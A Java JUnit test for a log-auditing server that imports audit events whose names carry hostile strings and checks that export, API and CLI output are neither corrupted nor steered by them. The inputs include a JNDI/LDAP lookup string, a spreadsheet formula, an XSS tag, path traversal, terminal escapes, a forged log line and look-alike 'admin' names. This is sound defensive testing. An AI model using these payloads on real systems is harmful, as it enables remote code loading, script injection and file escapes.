package dev.gatehouse.server;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.cli.Main;
import dev.gatehouse.json.CanonicalJson;
import dev.gatehouse.json.Json;
import dev.gatehouse.json.JsonValue;
import dev.gatehouse.json.JsonValue.JsonArray;
import dev.gatehouse.json.JsonValue.JsonObject;
import dev.gatehouse.json.JsonValue.JsonString;
import dev.gatehouse.server.StartedServer.Answer;
import dev.gatehouse.server.StartedServer.Session;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

/// Texts that break things elsewhere, as the name of who acted and of what, from an import through
/// the index to API, export and command line: each comes back as it is, and steers nothing.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileThroughServerTest {
    private static final String ESCAPING = "escaping-7q";
    private static final List<String> LIKE_ADMIN =
            List.of("admin", "Admin", "\uff41\uff44\uff4d\uff49\uff4e", "adm\u0130n", "\u0430dmin");

    private static final int VALUE_CHARS_MAX = 64 * 1_024;

    private StartedServer started;
    private Session ann = new Session("", "");
    private List<String> texts = List.of();

    @BeforeAll
    void send(@TempDir Path data) throws Exception {
        texts = texts();
        started = StartedServer.at(data);
        ann = started.signInAsAdministrator();
        StringBuilder file = new StringBuilder();
        for (int i = 0; i < texts.size(); i++) {
            String text = CanonicalJson.text(new JsonString(texts.get(i)));
            file.append(
                    "{\"kind\":\"Event\",\"auditID\":\"a-%d\",\"stage\":\"ResponseComplete\",\"verb\":\"get\",\"user\":{\"username\":%s},\"userAgent\":%s,\"objectRef\":{\"resource\":\"pods\",\"name\":%s},\"stageTimestamp\":\"2026-11-20T10:00:00Z\"}%n"
                            .formatted(i, text, text, text));
        }
        Answer imported =
                started.deliver(
                        "/api/v1/imports?source=kubernetes:hostile&trust_times=true",
                        file.toString().getBytes(StandardCharsets.UTF_8),
                        "Cookie: " + ann.cookie(),
                        "X-CSRF-Token: " + ann.csrf());
        assertThat(imported.body())
                .contains("\"new\":" + texts.size() + ",")
                .contains("\"unreadable\":0");
        for (int i = 0; i < 400 && actors().size() < texts.size(); i++) {
            Thread.sleep(50);
        }
    }

    @AfterAll
    void stop() {
        started.close();
    }

    private static List<String> texts() throws IOException {
        List<String> texts =
                new ArrayList<>(
                        List.of(
                                "\u0000",
                                "a\u0000b\u001b[2J\r\n2026-01-01 ERROR fake",
                                "gpj.\u202enimda",
                                "Z" + "\u0301".repeat(1_000),
                                "x".repeat(200_000),
                                "y".repeat(2_000_000),
                                "\u00e9".repeat(40_000),
                                "../../" + ESCAPING,
                                "CON",
                                ESCAPING.repeat(30),
                                "=HYPERLINK(\"http://192.0.2.1\")",
                                "${jndi:ldap://192.0.2.1/a}",
                                "<img src=x onerror=alert(1)>"));
        texts.addAll(LIKE_ADMIN);
        // Together more than a client takes that sets no limit of its own.
        IntStream.range(0, 20).forEach(i -> texts.add(i + "w".repeat(70_000)));
        Path list =
                Path.of(
                        System.getProperty("gatehouse.shared", "none"),
                        "vectors/naughty-strings/blns.json");
        if (Files.exists(list)) {
            for (JsonValue each : ((JsonArray) Json.parse(Files.readAllBytes(list))).items()) {
                if (!each.text().isEmpty() && !texts.contains(each.text())) {
                    texts.add(each.text());
                }
            }
        }
        return texts;
    }

    // A040: of a value of megabytes an event holds the beginning, and says how much is missing.
    private static String shown(String text) {
        return text.length() <= VALUE_CHARS_MAX ? text : text.substring(0, VALUE_CHARS_MAX);
    }

    private List<String> actors() throws IOException {
        List<String> actors = new ArrayList<>();
        for (String line : exported("jsonl")) {
            JsonObject event = (JsonObject) Json.parse(line);
            actors.add(shown(((JsonObject) event.get("actor")).get("id").text()));
        }
        return actors;
    }

    private List<String> exported(String format) throws IOException {
        Answer answer = started.get(ann, "/api/v1/events/export?format=" + format);
        return List.of(answer.body().split("\n")).stream().filter(line -> !line.isEmpty()).toList();
    }

    private String shown(String... words) {
        StringWriter shown = new StringWriter();
        CommandLine line = Main.commandLine();
        line.setOut(new PrintWriter(shown)).setErr(new PrintWriter(shown));
        assertThat(line.execute(words)).as(shown.toString()).isZero();
        return shown.toString();
    }

    @Test
    void nothingIsLostAndNothingHarms() throws IOException {
        Set<String> wanted =
                texts.stream()
                        .map(HostileThroughServerTest::shown)
                        .collect(Collectors.toUnmodifiableSet());
        assertThat(new HashSet<>(actors())).isEqualTo(wanted);
        assertThat(exported("jsonl"))
                .allMatch(line -> line.length() < 1_000_000)
                .anyMatch(line -> line.contains("[cut: 1,934,464 more characters, "));
        assertThat(started.get(ann, "/api/v1/status").body())
                .contains("\"quarantined\":0")
                .doesNotContain("\"stopped\"");
        String data = started.data().toString();
        String table = shown("events", "search", "--data", data, "--limit", "0");
        assertThat(table.codePoints().filter(c -> c != '\n').boxed())
                .noneMatch(c ->
                        Character.getType(c) == Character.CONTROL
                                || Character.getType(c) == Character.FORMAT);
        assertThat(table).doesNotContain("\n2026-01-01 ERROR");
        List<String> lines =
                shown("events", "search", "--json", "--data", data, "--limit", "0")
                        .lines()
                        .toList();
        assertThat(lines).hasSize(texts.size() + 1).allMatch(line -> Json.parse(line) != null);
    }

    @Test
    void whatWasSentIsThereWhole() throws IOException {
        Set<String> raw = new HashSet<>();
        for (String line : exported("jsonl")) {
            String id = ((JsonObject) Json.parse(line)).get("id").text();
            String piece =
                    started.post(ann, "/api/v1/events/" + id + "/reveal", "{\"reason\":\"x\"}")
                            .text("text");
            JsonObject sent = (JsonObject) Json.parse(piece);
            raw.add(((JsonObject) sent.get("user")).get("username").text());
        }
        assertThat(raw).isEqualTo(new HashSet<>(texts));
    }

    // Line ends within cells and between rows are the file's own; the manifest beside it tells.
    @Test
    void theCommandLineWritesAnExportAsItIs(@TempDir Path folder) throws Exception {
        Path file = folder.resolve("events.csv");
        String data = started.data().toString();
        String said =
                shown("events", "export", "--data", data, "--format", "CSV", "-o", file.toString());
        assertThat(said).contains("What these sources record").contains("kubernetes:hostile");
        JsonObject manifest =
                (JsonObject)
                        Json.parse(Files.readAllBytes(folder.resolve("events.csv.manifest.json")));
        byte[] digest = MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(file));
        assertThat(manifest.get("sha256").text()).isEqualTo(HexFormat.of().formatHex(digest));
        assertThat(manifest.get("rows").text()).isEqualTo(Integer.toString(texts.size()));
    }

    @Test
    void likeNamesStayDifferentAccounts() throws IOException {
        assertThat(actors()).containsAll(LIKE_ADMIN);
    }

    @Test
    void noNameFromOutsideBecomesAFile() throws IOException {
        try (Stream<Path> all = Files.walk(started.data().getParent())) {
            assertThat(all.map(file -> file.getFileName().toString()))
                    .noneMatch(name -> name.contains(ESCAPING) || name.equals("CON"));
        }
        for (String name : List.of("../" + ESCAPING, ESCAPING.repeat(30), "a/b", "CON")) {
            String asked =
                    "{\"tool\":\"vault\",\"name\":%s,\"channel\":\"bulk\"}"
                            .formatted(CanonicalJson.text(new JsonString(name)));
            int status = started.post(ann, "/api/v1/sources", asked).status();
            assertThat(status).as(name).isIn(400, 422);
        }
    }
}
